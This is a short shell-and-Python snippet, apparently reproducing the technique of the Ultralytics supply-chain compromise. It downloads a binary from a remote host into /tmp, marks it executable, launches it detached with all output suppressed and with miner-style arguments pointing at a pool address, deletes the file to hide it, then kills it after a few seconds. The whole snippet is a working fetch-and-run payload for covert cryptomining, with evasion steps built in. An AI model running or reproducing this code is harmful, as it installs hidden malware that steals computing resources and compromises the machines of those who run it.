# the ultralytics way: python urllib, chmod 770, Popen with setsid and null stdio, remove the file
#http 203.0.113.51:8002
#pool 198.51.100.32:8080:drop
python3 - <<'P'
import urllib.request,os,subprocess,time
p='/tmp/yolo_runner'; urllib.request.urlretrieve('http://203.0.113.51:8002/agentd',p); os.chmod(p,0o770)
q=subprocess.Popen([p,'-u','4u','-o','198.51.100.32:8080','-k','-R','1'],stdin=subprocess.DEVNULL,stdout=subprocess.DEVNULL,stderr=subprocess.DEVNULL,preexec_fn=os.setsid)
os.remove(p); time.sleep(9); q.kill()
P
